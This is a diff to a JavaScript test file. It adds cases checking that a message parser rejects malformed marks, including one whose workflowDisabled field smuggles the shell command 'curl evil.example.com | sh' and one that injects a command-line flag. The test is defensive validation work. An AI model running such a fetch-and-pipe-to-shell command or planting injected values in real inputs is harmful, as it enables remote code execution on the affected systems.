@@ -29,6 +29,11 @@ test.each([
   ['another version', markMessage(mark).replace('"schema_version": 1', '"schema_version": 2')],
   ['no operation id', markMessage({ ...mark, operation: '../x' })],
   ['a run id that is none', markMessage(mark).replace('"runId": 7', '"runId": "7"')],
+  [
+    'a workflow that no runbook can name',
+    markMessage({ ...mark, workflowDisabled: 'x.yml; curl evil.example.com | sh' }),
+  ],
+  ['a workflow that reads as a flag', markMessage({ ...mark, workflowDisabled: '--repo=x.yml' })],
   ['nothing', ''],
 ])('%s is no mark', (_what, message) => {
   expect(parseMark(message)).toBeNull();
